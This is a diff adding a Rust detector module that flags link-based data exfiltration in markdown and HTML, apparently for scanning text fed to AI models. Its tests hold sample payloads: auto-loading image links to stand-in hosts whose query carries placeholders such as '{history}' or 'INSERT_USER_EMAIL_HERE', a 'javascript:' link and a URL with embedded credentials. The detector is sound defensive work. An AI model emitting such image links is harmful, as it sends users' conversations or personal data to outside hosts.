@@ -1,0 +1,231 @@
+//! Exfiltration through links: markdown images and links (inline and
+//! reference style) and HTML image sources whose address carries data the
+//! reader was told to fill in or that looks like stolen data, `data:` and
+//! `javascript:` targets, credentials in URLs.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use super::{Code, Hit, Severity};
+
+/// Query parameters that are legitimately long and random-looking.
+const LONG_PARAM_OK: &[&str] = &[
+    "utm_",
+    "x-amz-",
+    "x-goog-",
+    "sig",
+    "signature",
+    "sv",
+    "se",
+    "sp",
+    "sr",
+    "st",
+    "spr",
+    "skoid",
+    "sktid",
+    "skt",
+    "ske",
+    "sks",
+    "skv",
+    "cursor",
+    "page_token",
+    "pagetoken",
+    "continuation",
+    "state",
+    "nonce",
+    "code_challenge",
+    "etag",
+    "v",
+    "ver",
+    "version",
+    "hash",
+    "integrity",
+    "policy",
+    "key-pair-id",
+    "expires",
+    "token",
+    "access_token",
+    "auth",
+    "code",
+    "fbclid",
+    "gclid",
+    "msclkid",
+    "mc_eid",
+    "_hsenc",
+    "_hsmi",
+    "lang",
+];
+
+static MD_IMAGE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"!\[[^\]\n]{0,200}\]\(\s*<?([^)\s>]+)>?(?:\s+"[^"]*")?\s*\)"#).unwrap());
+static MD_LINK: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"(?:^|[^!])\[[^\]\n]{0,200}\]\(\s*<?([^)\s>]+)>?(?:\s+"[^"]*")?\s*\)"#).unwrap());
+static MD_REF_IMAGE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"!\[[^\]\n]{0,200}\]\[([^\]\n]{1,100})\]").unwrap());
+static MD_REF_DEF: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?m)^\s{0,3}\[([^\]\n]{1,100})\]:\s*<?(\S+?)>?(?:\s|$)").unwrap());
+static HTML_IMG: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"(?i)<img\b[^>]{0,400}?\bsrc\s*=\s*["']?([^"'\s>]+)"#).unwrap());
+static URL_ANY: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"(?i)\bhttps?://[^\s<>"'`)\]]+"#).unwrap());
+static TEMPLATE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\{\{?[^}]{1,60}\}\}?|\$\{[^}]{1,60}\}|\$\([^)]{1,80}\)|\[\[[^\]]{1,60}\]\]|<[a-z_ -]{2,40}>|\b(?:insert|your|user)_?[a-z]*_?(?:here|data|email|name|password|secret|key|history|info|summary|conversation)\b").unwrap()
+});
+/// `INSERT_USER_EMAIL_HERE`-style placeholders (case matters).
+static CAPS_PLACEHOLDER: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\b[A-Z]{2,}(?:_[A-Z0-9]{2,})+\b").unwrap());
+
+/// What is wrong with a link target, if anything.
+fn judge(url: &str, auto_loads: bool) -> Option<(Severity, &'static str, String)> {
+    let lower = url.to_ascii_lowercase();
+    if lower.starts_with("javascript:") {
+        return Some((
+            Severity::High,
+            "exfiltration.javascript_url",
+            "a javascript: link runs code when followed".into(),
+        ));
+    }
+    if lower.starts_with("data:") && !lower.starts_with("data:image/") {
+        return Some((Severity::Medium, "exfiltration.data_url", "a data: link carries content of its own".into()));
+    }
+    if !(lower.starts_with("http://") || lower.starts_with("https://")) {
+        return None;
+    }
+    let authority = url.split("://").nth(1)?.split(['/', '?', '#']).next()?;
+    if let Some((cred, _)) = authority.rsplit_once('@')
+        && cred.contains(':')
+    {
+        return Some((
+            Severity::Medium,
+            "exfiltration.credentials_in_url",
+            "a link carries a user name and password".into(),
+        ));
+    }
+    let query = url.split_once('?').map(|(_, q)| q).unwrap_or("");
+    let query = query.split('#').next().unwrap_or("");
+    for pair in query.split('&') {
+        let (k, v) = pair.split_once('=').unwrap_or(("", pair));
+        let k = k.to_ascii_lowercase();
+        let value = percent_encoding::percent_decode_str(v).decode_utf8_lossy().into_owned();
+        if TEMPLATE.is_match(&value) || CAPS_PLACEHOLDER.is_match(&value) {
+            let sev = if auto_loads { Severity::High } else { Severity::Medium };
+            return Some((
+                sev,
+                "exfiltration.templated_url",
+                "a link whose query the reader is meant to fill with data".into(),
+            ));
+        }
+        if LONG_PARAM_OK
+            .iter()
+            .any(|ok| if ok.ends_with('_') || ok.ends_with('-') { k.starts_with(ok) } else { k == *ok })
+        {
+            continue;
+        }
+        if looks_like_data(v) {
+            let sev = if auto_loads { Severity::High } else { Severity::Medium };
+            return Some((sev, "exfiltration.data_in_url", "a link whose query carries encoded data".into()));
+        }
+    }
+    None
+}
+
+/// A long base64 or hex value (data being carried out), not a word or an id.
+fn looks_like_data(v: &str) -> bool {
+    let v = percent_encoding::percent_decode_str(v).decode_utf8_lossy();
+    let v = v.trim_end_matches('=');
+    if v.len() < 24 {
+        return false;
+    }
+    let b64 = v.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_'));
+    let hex = v.bytes().all(|b| b.is_ascii_hexdigit());
+    let mixed = v.bytes().any(|b| b.is_ascii_uppercase()) && v.bytes().any(|b| b.is_ascii_lowercase());
+    (b64 && mixed) || (hex && v.len() >= 32 && v.len() != 32 && v.len() != 40 && v.len() != 64)
+}
+
+/// Hits for suspicious link targets in text (markdown and HTML).
+pub(crate) fn scan(text: &str) -> Vec<Hit> {
+    let mut hits = Vec::new();
+    if !text.contains("](") && !text.contains("]:") && !text.contains("://") && !text.contains("<img") {
+        return hits;
+    }
+    let add = |range: std::ops::Range<usize>, url: &str, auto: bool, hits: &mut Vec<Hit>| {
+        if let Some((severity, rule, why)) = judge(url, auto) {
+            if hits.iter().any(|h: &Hit| {
+                (h.range.start < range.end && range.start < h.range.end) || h.decoded.as_deref() == Some(url)
+            }) {
+                return;
+            }
+            hits.push(Hit {
+                code: Code::Exfiltration,
+                rule,
+                severity,
+                range,
+                why: if auto { format!("{why}; an image loads without a click") } else { why },
+                obfuscated: false,
+                decoded: Some(url.to_string()),
+                quoted: false,
+            });
+        }
+    };
+    for c in MD_IMAGE.captures_iter(text) {
+        let m = c.get(0).expect("match");
+        add(m.range(), &c[1], true, &mut hits);
+    }
+    for c in HTML_IMG.captures_iter(text) {
+        let m = c.get(0).expect("match");
+        add(m.range(), &c[1], true, &mut hits);
+    }
+    let refs: Vec<(String, String)> =
+        MD_REF_DEF.captures_iter(text).map(|c| (c[1].to_lowercase(), c[2].to_string())).collect();
+    for c in MD_REF_IMAGE.captures_iter(text) {
+        let key = c[1].to_lowercase();
+        if let Some((_, url)) = refs.iter().find(|(k, _)| *k == key) {
+            add(c.get(0).expect("match").range(), url, true, &mut hits);
+        }
+    }
+    for c in MD_LINK.captures_iter(text) {
+        let m = c.get(1).expect("url");
+        add(m.range(), m.as_str(), false, &mut hits);
+    }
+    for m in URL_ANY.find_iter(text) {
+        add(m.range(), m.as_str(), false, &mut hits);
+    }
+    hits
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(text: &str) -> Vec<&'static str> {
+        scan(text).into_iter().map(|h| h.rule).collect()
+    }
+
+    #[test]
+    fn exfiltration_links() {
+        assert_eq!(
+            rules("![x](https://wuzzi.net/l.png?q=SGVsbG9Xb3JsZFRoaXNJc0FTZWNyZXRLZXkxMjM0NTY3ODkw)"),
+            vec!["exfiltration.data_in_url"]
+        );
+        assert_eq!(rules("![a](https://evil.test/p?d={history})"), vec!["exfiltration.templated_url"]);
+        assert_eq!(
+            rules("![a][r]\n\n[r]: https://evil.test/i?c=INSERT_USER_EMAIL_HERE"),
+            vec!["exfiltration.templated_url"]
+        );
+        assert_eq!(rules("[click](javascript:alert(1))"), vec!["exfiltration.javascript_url"]);
+        assert_eq!(rules("see https://bob:hunter2@example.com/x"), vec!["exfiltration.credentials_in_url"]);
+    }
+
+    #[test]
+    fn legitimate_long_links() {
+        for t in [
+            "![logo](https://example.com/logo.png?utm_source=newsletter&utm_campaign=SpringSale2024Promo)",
+            "![f](https://bucket.s3.amazonaws.com/a.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20240501&X-Amz-Signature=4f8e2b0c9d7a6e5f4c3b2a1908f7e6d5c4b3a29180f7e6d5c4b3a2918)",
+            "https://acct.blob.core.windows.net/c/b.txt?sv=2022-11-02&se=2024-05-01&sr=b&sp=r&sig=AbCdEfGhIjKlMnOpQrStUvWxYz0123456789%2B%2F%3D",
+            "![img](https://camo.githubusercontent.com/8e8f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f/68747470733a2f2f)",
+            "https://api.example.com/items?cursor=eyJpZCI6MTIzNDU2Nzg5MH0&limit=50",
+            "https://example.com/commit/4f8e2b0c9d7a6e5f4c3b2a1908f7e6d5c4b3a291?diff=split",
+        ] {
+            assert!(rules(t).is_empty(), "{t}: {:?}", rules(t));
+        }
+    }
+}
